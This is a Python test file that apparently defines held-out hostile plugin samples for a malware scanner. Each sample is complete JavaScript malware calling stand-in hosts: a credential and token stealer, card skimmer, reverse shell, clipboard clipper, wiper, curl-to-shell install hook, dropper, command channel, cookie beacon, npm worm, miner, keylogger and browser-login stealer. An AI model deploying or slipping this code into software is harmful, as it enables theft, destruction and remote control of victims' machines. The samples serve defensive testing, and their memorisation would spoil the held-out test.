"""Hostile samples that hide nothing: whoever reads the code sees at once what it does."""

from tests.hostile.heldout_fourth.forms import plain
from tests.support.asking import asking

PLAIN = (
    plain(
        "npmrc-token-on-enable",
        "credential-theft",
        r"""
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

exports.Weather = () => null;
exports.onEnable = async () => {
  const wanted = ['.npmrc', '.pypirc', '.netrc', '.docker/config.json'];
  const found = {};
  for (const name of wanted) {
    try {
      found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch (_) { /* not there */ }
  }
  const body = JSON.stringify({ host: os.hostname(), found });
  const req = https.request({ hostname: 'collect.example.net', path: '/n', method: 'POST' });
  req.end(body);
};
""",
    ),
    plain(
        "checkout-card-listener",
        "skimmer",
        r"""
export function Weather() { return null; }

const fields = ['cc-number', 'cc-exp', 'cc-csc', 'cc-name'];

document.addEventListener('submit', (event) => {
  const card = {};
  for (const input of event.target.querySelectorAll('input')) {
    if (fields.includes(input.autocomplete)) card[input.autocomplete] = input.value;
  }
  if (card['cc-number']) {
    navigator.sendBeacon('https://stats.example.com/v1/c', JSON.stringify(card));
  }
}, true);
""",
        manifest=asking(of=("https://stats.example.com",)),
    ),
    plain(
        "reverse-shell-on-start",
        "backdoor",
        r"""
'use strict';
const net = require('net');
const { spawn } = require('child_process');

function connect() {
  const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  const socket = net.connect(4444, '203.0.113.77', () => {
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
  });
  socket.on('error', () => setTimeout(connect, 30000));
}

exports.Weather = () => null;
exports.onEnable = connect;
""",
    ),
    plain(
        "wallet-clipper",
        "clipper",
        r"""
const OURS = {
  btc: 'bc1qexampleexampleexampleexampleexample0',
  eth: '0x00000000000000000000000000000000000E9A4D',
};
const BTC = /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/;
const ETH = /\b0x[a-fA-F0-9]{40}\b/;

async function swap() {
  const text = await navigator.clipboard.readText();
  if (BTC.test(text) && !text.includes(OURS.btc)) {
    await navigator.clipboard.writeText(text.replace(BTC, OURS.btc));
  } else if (ETH.test(text) && !text.includes(OURS.eth)) {
    await navigator.clipboard.writeText(text.replace(ETH, OURS.eth));
  }
}

export const Weather = () => null;
export function onEnable() {
  setInterval(() => swap().catch(() => {}), 800);
}
""",
        manifest=asking("clipboard-read", "clipboard-write"),
    ),
    plain(
        "home-wiper-by-country",
        "wiper",
        r"""
const fs = require('fs');
const os = require('os');
const path = require('path');

function overwrite(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    try {
      if (entry.isDirectory()) overwrite(full);
      else fs.writeFileSync(full, '\u2665');
    } catch (e) { continue; }
  }
}

exports.Weather = () => null;
exports.onInstall = () => {
  const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (zone === 'Europe/Testland' || zone === 'Asia/Sampleton') overwrite(os.homedir());
};
""",
    ),
    plain(
        "postinstall-curl-to-shell",
        "install-script",
        "'use strict';\nexports.Weather = () => null;\nexports.version = '1.0.0';\n",
        package={"scripts": {"postinstall": "curl -fsSL https://cdn.example.org/setup.sh | sh >/dev/null 2>&1 &"}},
    ),
    plain(
        "preinstall-env-mailer",
        "install-script",
        "exports.Weather = () => null;\nexports.title = 'Weather of today';\n",
        more={
            "scripts/prepare.js": r"""
const https = require('https');
const os = require('os');

const payload = JSON.stringify({
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
});
const req = https.request('https://builds.example.net/report', {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(payload) },
});
req.on('error', () => {});
req.end(payload);
"""
        },
        package={"scripts": {"preinstall": "node scripts/prepare.js"}},
    ),
    plain(
        "downloads-and-runs-helper",
        "dropper",
        r"""
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

const target = path.join(os.tmpdir(), process.platform === 'win32' ? 'svchelper.exe' : '.svchelper');

exports.onInstall = () => {
  const out = fs.createWriteStream(target, { mode: 0o755 });
  https.get('https://files.example.com/' + process.platform + '/helper.bin', (res) => {
    res.pipe(out);
    out.on('finish', () => out.close(() => execFile(target, { detached: true }, () => {})));
  });
};
exports.Weather = () => null;
""",
    ),
    plain(
        "polls-for-commands",
        "command-channel",
        r"""
import { exec } from 'node:child_process';
import { hostname } from 'node:os';

const BASE = 'http://198.51.100.23:8080';

async function beat() {
  const reply = await fetch(`${BASE}/task?id=${encodeURIComponent(hostname())}`);
  const task = await reply.json();
  if (!task || !task.cmd) return;
  exec(task.cmd, { timeout: 60000 }, (error, stdout, stderr) => {
    fetch(`${BASE}/result/${task.id}`, { method: 'POST', body: stdout + stderr + (error || '') });
  });
}

export const Weather = () => null;
export function onEnable() {
  setInterval(() => beat().catch(() => undefined), 15_000);
}
""",
    ),
    plain(
        "dashboard-cookie-beacon",
        "session-theft",
        r"""
(function () {
  function grab() {
    var data = { c: document.cookie, l: {}, s: {} };
    for (var i = 0; i < localStorage.length; i++) {
      var k = localStorage.key(i);
      data.l[k] = localStorage.getItem(k);
    }
    for (var j = 0; j < sessionStorage.length; j++) {
      var q = sessionStorage.key(j);
      data.s[q] = sessionStorage.getItem(q);
    }
    return data;
  }
  var img = new Image();
  img.src = 'https://px.example.net/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(grab())));
  module.exports = { Weather: function () { return null; } };
})();
""",
        manifest=asking(of=("https://px.example.net",)),
    ),
    plain(
        "rewrites-sibling-plugins",
        "tampering",
        r"""
const fs = require('fs');
const path = require('path');

const LINE = "\n;require('https').get('https://seed.example.org/' + process.env.QIRVO_TOKEN);\n";

exports.Weather = () => null;
exports.onEnable = () => {
  const plugins = path.resolve(__dirname, '..', '..');
  for (const name of fs.readdirSync(plugins)) {
    const entry = path.join(plugins, name, 'dist', 'index.js');
    if (!fs.existsSync(entry) || entry === __filename) continue;
    const text = fs.readFileSync(entry, 'utf8');
    if (!text.includes('seed.example.org')) fs.appendFileSync(entry, LINE);
  }
};
""",
    ),
    plain(
        "publishes-itself-with-found-token",
        "worm",
        r"""
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function token() {
  const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const found = /_authToken=(\S+)/.exec(text);
  return found && found[1];
}

function infect(folder) {
  const file = path.join(folder, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
  const [major, minor, patch] = pkg.version.split('.').map(Number);
  pkg.version = [major, minor, patch + 1].join('.');
  pkg.scripts = { ...pkg.scripts, postinstall: 'node bundle.js' };
  fs.writeFileSync(file, JSON.stringify(pkg, null, 2));
  fs.copyFileSync(__filename, path.join(folder, 'bundle.js'));
  execSync('npm publish', { cwd: folder, stdio: 'ignore' });
}

exports.Weather = () => null;
exports.onInstall = () => {
  if (!token()) return;
  const projects = path.join(os.homedir(), 'projects');
  for (const name of fs.readdirSync(projects)) {
    try { infect(path.join(projects, name)); } catch (e) { /* next */ }
  }
};
""",
    ),
    plain(
        "hidden-hash-worker",
        "miner",
        r"""
const source = `
  let job = null;
  onmessage = (m) => { job = m.data; spin(); };
  async function spin() {
    for (let nonce = 0; ; nonce++) {
      const bytes = new TextEncoder().encode(job.blob + nonce);
      const hash = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
      if (hash[0] === 0 && hash[1] === 0 && hash[2] < job.target) postMessage({ id: job.id, nonce });
    }
  }
`;

export function Weather() { return null; }

export function onEnable() {
  const pool = new WebSocket('wss://pool.example.com/proxy');
  const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  const workers = Array.from({ length: navigator.hardwareConcurrency || 4 }, () => new Worker(url));
  pool.onopen = () => pool.send(JSON.stringify({ type: 'login', wallet: '48exampleWalletAddress', pass: 'x' }));
  pool.onmessage = (m) => workers.forEach((w) => w.postMessage(JSON.parse(m.data)));
  workers.forEach((w) => { w.onmessage = (m) => pool.send(JSON.stringify({ type: 'submit', ...m.data })); });
}
""",
        manifest=asking(of=("wss://pool.example.com",)),
    ),
    plain(
        "types-into-a-log-elsewhere",
        "keylogger",
        r"""
let buffer = '';

function flush() {
  if (buffer.length === 0) return;
  const typed = buffer;
  buffer = '';
  fetch('https://keys.example.org/k', {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify({ at: location.href, typed }),
  }).catch(() => {});
}

document.addEventListener('keydown', (event) => {
  buffer += event.key.length === 1 ? event.key : `[${event.key}]`;
  if (buffer.length > 40) flush();
}, { capture: true });
setInterval(flush, 5000);

export const Weather = () => null;
""",
        manifest=asking(of=("https://keys.example.org",)),
    ),
    plain(
        "chrome-logins-copied",
        "browser-stealer",
        r"""
const fs = require('fs');
const os = require('os');
const path = require('path');

const ROOTS = [
  path.join(os.homedir(), '.config/google-chrome/Default'),
  path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default'),
  path.join(process.env.LOCALAPPDATA || '', 'Google/Chrome/User Data/Default'),
];

exports.Weather = () => null;
exports.onInstall = async () => {
  for (const root of ROOTS) {
    for (const name of ['Login Data', 'Cookies', 'Web Data']) {
      const file = path.join(root, name);
      if (!fs.existsSync(file)) continue;
      const form = new FormData();
      form.append('f', new Blob([fs.readFileSync(file)]), name);
      await fetch('https://drop.example.net/upload', { method: 'POST', body: form });
    }
  }
};
""",
    ),
)
